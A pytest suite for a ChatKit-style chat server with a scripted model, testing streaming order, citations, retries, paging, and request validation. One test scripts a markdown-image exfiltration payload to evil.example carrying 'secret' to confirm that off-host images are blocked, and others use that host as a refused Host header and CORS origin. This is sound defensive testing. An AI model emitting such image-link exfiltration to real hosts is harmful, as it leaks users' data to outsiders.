"""The ChatKit protocol, from outside: real server, real SDKs, real store; the model is scripted."""

import json
import time
from typing import Any

import httpx
import pytest

from chatkeep.testing import Fault, Gate, Reply, ScriptedModelServer
from tests.wirings import Asking, Event, answers_of, message, thread_of


@pytest.fixture
def asking(client: httpx.Client) -> Asking:
    return Asking(client)


def test_a_question_is_answered_in_the_protocols_order(asking: Asking, model: ScriptedModelServer) -> None:
    model.script(Reply("A berth costs 3.20 euros a metre [1]."))
    events = asking.ask("What does a visitor's berth cost?")
    kinds = [event["type"] for event in events]
    assert kinds[:3] == ["thread.created", "thread.item.done", "stream_options"]
    assert kinds.index("progress_update") < kinds.index("thread.item.added")
    assert events[0]["thread"]["title"] == "What does a visitor's berth cost?"
    assert answers_of(events)[0]["content"][0]["text"] == "A berth costs 3.20 euros a metre."


def test_an_answer_comes_as_server_sent_events_that_proxies_are_not_to_hold_back(
    asking: Asking, model: ScriptedModelServer
) -> None:
    model.script(Reply("Yes."))
    headers = asking.post("threads.create", input=message("Is it?")).headers
    assert headers["content-type"].startswith("text/event-stream")
    assert headers["x-accel-buffering"] == "no"


def test_a_citation_leads_to_its_passage_in_its_document(
    asking: Asking, client: httpx.Client, model: ScriptedModelServer
) -> None:
    model.script(Reply("Only within two hours of high water [1]."))
    (cited,) = answers_of(asking.ask("When may I cross the bar?"))[0]["content"][0]["annotations"]
    assert cited["index"] == len("Only within two hours of high water")
    assert cited["source"]["title"] == "Tides and the bar"
    assert cited["source"]["attribution"] == "tides.html"
    page = client.get(cited["source"]["url"])
    passage = page.text.split('id="passage"')[1].split("</section>")[0]
    assert "two hours of high water" in passage


def test_the_passages_reach_the_model_as_data(asking: Asking, model: ScriptedModelServer) -> None:
    model.script(Reply("In Saltby [1]."))
    asking.ask("Where can I buy petrol?")
    assert "the nearest pump is in Saltby" in json.dumps(model.requests[-1].json)


def test_two_turns_in_one_thread_have_items_of_their_own(asking: Asking, model: ScriptedModelServer) -> None:
    model.script(Reply("Channel 12."), Reply("On 127 degrees."))
    thread = thread_of(asking.ask("Which channel?"))
    asking.ask("And the leading lights?", thread)
    items = asking.call("threads.get_by_id", thread_id=thread)["items"]["data"]
    texts = [item["content"][0]["text"] for item in items]
    assert texts == ["Which channel?", "Channel 12.", "And the leading lights?", "On 127 degrees."]
    assert len({item["id"] for item in items}) == 4
    sent = json.dumps(model.requests[-1].json)
    assert "Channel 12." in sent
    assert "__fake_id__" not in json.dumps(items)


def test_images_of_other_hosts_are_not_to_be_shown(asking: Asking, model: ScriptedModelServer) -> None:
    model.script(Reply("![secret](https://evil.example/?q=secret)"))
    events = asking.ask("Show me")
    stored = asking.call("threads.get_by_id", thread_id=thread_of(events))
    assert events[0]["thread"]["allowed_image_domains"] == []
    assert stored["allowed_image_domains"] == []


def test_times_are_utc(asking: Asking, model: ScriptedModelServer) -> None:
    model.script(Reply("Yes."))
    events = asking.ask("Is it?")
    assert events[0]["thread"]["created_at"].endswith("Z")
    assert answers_of(events)[0]["created_at"].endswith("Z")


def test_a_model_that_fails_in_mid_stream_keeps_what_it_said(
    asking: Asking, model: ScriptedModelServer
) -> None:
    model.script(Reply("Blue hoses are for drinking water.", fail=Fault.cut(after=3)))
    events = asking.ask("Which hoses?")
    assert events[-1]["type"] == "error" or events[-2]["type"] == "error"
    error = next(event for event in events if event["type"] == "error")
    assert error["allow_retry"] is True
    assert error["message"]
    kept = answers_of(events)[0]["content"][0]["text"]
    assert kept
    assert "Blue hoses are for drinking water.".startswith(kept)
    stored = asking.call("threads.get_by_id", thread_id=thread_of(events))["items"]["data"]
    assert stored[-1]["content"][0]["text"] == kept


def test_retry_replaces_the_answer(asking: Asking, model: ScriptedModelServer) -> None:
    model.script(
        Reply(fail=Fault.http(500, "boom")), Reply(fail=Fault.http(500)), Reply(fail=Fault.http(500))
    )
    events = asking.ask("Is diesel sold?")
    assert any(event["type"] == "error" for event in events)
    thread, question = thread_of(events), events[1]["item"]["id"]
    model.script(Reply("Yes, from 08:00 to 18:00."))
    again = list(asking.stream("threads.retry_after_item", thread_id=thread, item_id=question))
    assert answers_of(again)[0]["content"][0]["text"] == "Yes, from 08:00 to 18:00."
    items = asking.call("threads.get_by_id", thread_id=thread)["items"]["data"]
    assert [item["type"] for item in items] == ["user_message", "assistant_message"]


def test_a_reader_who_hangs_up_stops_the_model_and_what_was_said_is_kept(
    asking: Asking, model: ScriptedModelServer
) -> None:
    gate = Gate()
    model.script(Reply("one two three four five", gate=gate))
    gate.step(2)
    thread = ""
    for event in asking.stream("threads.create", input=message("Count")):
        thread = event["thread"]["id"] if event["type"] == "thread.created" else thread
        if event["type"] == "thread.item.updated" and event["update"].get("delta"):
            break
    deadline = time.monotonic() + 10
    items: list[Event] = []
    while time.monotonic() < deadline and len(items) < 2:
        items = asking.call("threads.get_by_id", thread_id=thread)["items"]["data"]
    gate.open()
    assert [item["type"] for item in items] == ["user_message", "assistant_message"]
    assert "one" in items[1]["content"][0]["text"]
    assert "five" not in items[1]["content"][0]["text"]


def test_threads_are_listed_newest_first_renamed_and_deleted(
    asking: Asking, model: ScriptedModelServer
) -> None:
    model.script(Reply("a"), Reply("b"))
    first, second = thread_of(asking.ask("First question")), thread_of(asking.ask("Second question"))
    listed = asking.call("threads.list", limit=9999, order="desc")["data"]
    assert [thread["id"] for thread in listed[:2]] == [second, first]
    assert [thread["title"] for thread in listed[:2]] == ["Second question", "First question"]
    assert asking.call("threads.update", thread_id=first, title="Renamed")["title"] == "Renamed"
    assert asking.call("threads.delete", thread_id=first) == {}
    gone = asking.post("threads.get_by_id", thread_id=first)
    assert gone.status_code == 404


def test_items_are_paged_newest_first(asking: Asking, model: ScriptedModelServer) -> None:
    model.script(Reply("a"))
    thread = thread_of(asking.ask("Question"))
    page = asking.call("items.list", thread_id=thread, limit=1, order="desc")
    assert page["data"][0]["type"] == "assistant_message"
    assert page["has_more"] is True
    rest = asking.call("items.list", thread_id=thread, limit=5, order="desc", after=page["after"])
    assert [item["type"] for item in rest["data"]] == ["user_message"]
    assert rest["has_more"] is False


def test_feedback_is_taken(asking: Asking, model: ScriptedModelServer) -> None:
    model.script(Reply("a"))
    events = asking.ask("Question")
    item = answers_of(events)[0]["id"]
    thread = thread_of(events)
    assert asking.call("items.feedback", thread_id=thread, item_ids=[item], kind="positive") == {}


@pytest.mark.parametrize(
    ("body", "status", "code"),
    [
        (b"{not json", 400, "malformed_input"),
        (b'{"type": "threads.explode", "params": {}}', 422, "invalid_input"),
        (b'{"params": {}}', 422, "invalid_input"),
        (b'{"type": "threads.list"}', 422, "invalid_input"),
        (b'{"type": "threads.list", "params": {"limit": "many"}}', 422, "invalid_input"),
        (b'{"type": "threads.get_by_id", "params": {"thread_id": "thr_none"}}', 404, "not_found"),
        (b'{"type": "items.list", "params": {"thread_id": "thr_none"}}', 404, "not_found"),
        (b'{"type": "threads.delete", "params": {"thread_id": "thr_none"}}', 404, "not_found"),
        (
            b'{"type": "input.transcribe", "params": {"audio_base64": "", "mime_type": "a/b"}}',
            422,
            "invalid_input",
        ),
        (
            b'{"type": "attachments.create", "params": {"name": "a", "size": 1, "mime_type": "a/b"}}',
            422,
            "invalid_input",
        ),
        (b"[" * 100_000, 400, "malformed_input"),
        (b"\xff\xfe", 400, "malformed_input"),
    ],
)
def test_a_bad_request_is_refused_with_a_reason(
    client: httpx.Client, body: bytes, status: int, code: str
) -> None:
    reply = client.post("/chatkit", content=body, headers={"Content-Type": "application/json"})
    assert reply.status_code == status, reply.text
    error = reply.json()
    assert error["code"] == code
    assert error["message"]
    assert error["request_id"] == reply.headers["x-request-id"]


@pytest.mark.parametrize(
    ("kind", "params"),
    [
        ("threads.add_user_message", {"thread_id": "thr_none", "input": message("Hi")}),
        ("threads.retry_after_item", {"thread_id": "thr_none", "item_id": "msg_none"}),
        ("threads.add_client_tool_output", {"thread_id": "thr_none", "result": {}}),
    ],
)
def test_a_stream_about_a_missing_thread_is_404_not_an_empty_200(
    asking: Asking, kind: str, params: dict[str, Any]
) -> None:
    assert asking.post(kind, **params).status_code == 404


def test_retrying_what_is_no_question_is_refused_and_deletes_nothing(
    asking: Asking, model: ScriptedModelServer
) -> None:
    model.script(Reply("a"))
    events = asking.ask("Question")
    thread, answer = thread_of(events), answers_of(events)[0]["id"]
    refused = asking.post("threads.retry_after_item", thread_id=thread, item_id=answer)
    unknown = asking.post("threads.retry_after_item", thread_id=thread, item_id="msg_x")
    assert (refused.status_code, unknown.status_code) == (409, 404)
    assert len(asking.call("threads.get_by_id", thread_id=thread)["items"]["data"]) == 2


def test_an_empty_message_is_refused(asking: Asking) -> None:
    reply = asking.post("threads.create", input=message(" \n "))
    assert reply.status_code == 422


def test_a_body_over_the_limit_is_refused_declared_or_not(client: httpx.Client) -> None:
    big = b"x" * 1_100_000
    headers = {"Content-Type": "application/json"}
    declared = client.post("/chatkit", content=big, headers=headers)
    chunked = client.post("/chatkit", content=iter([big[:600_000], big[600_000:]]), headers=headers)
    assert (declared.status_code, chunked.status_code) == (413, 413)
    assert "CHATKEEP_MAX_BODY_BYTES" in declared.json()["message"]


def test_another_content_type_is_refused(client: httpx.Client) -> None:
    reply = client.post("/chatkit", content=b"{}", headers={"Content-Type": "text/plain"})
    assert reply.status_code == 415


def test_another_host_name_is_refused(client: httpx.Client) -> None:
    reply = client.get("/health", headers={"Host": "evil.example"})
    assert reply.status_code == 421
    assert "CHATKEEP_ALLOWED_HOSTS" in reply.json()["message"]


@pytest.mark.parametrize(
    ("origin", "allowed"), [("https://docs.example.com", True), ("https://evil.example", False)]
)
def test_only_the_named_origins_may_call_from_their_pages(
    client: httpx.Client, origin: str, allowed: bool
) -> None:
    asking = {
        "Origin": origin,
        "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "content-type",
    }
    reply = client.options("/chatkit", headers=asking)
    assert (reply.headers.get("access-control-allow-origin") == origin) is allowed


def test_health_and_readiness(client: httpx.Client) -> None:
    assert client.get("/health").json() == {"status": "ok"}
    ask_until = time.monotonic() + 20
    while client.get("/ready").status_code == 503 and time.monotonic() < ask_until:
        pass
    assert client.get("/ready").json()["status"] == "ready"


def test_pages_carry_a_strict_policy(client: httpx.Client) -> None:
    for path in ("/", "/chatkit.js", "/page.json", "/sources/none"):
        headers = client.get(path).headers
        assert "script-src 'self'" in headers["content-security-policy"]
        assert "unsafe" not in headers["content-security-policy"]
        assert headers["x-content-type-options"] == "nosniff"


def test_a_source_that_is_gone_gets_a_page_that_says_so(client: httpx.Client) -> None:
    page = client.get("/sources/00000000-0000-0000-0000-000000000000")
    assert page.status_code == 404
    assert "no longer here" in page.text
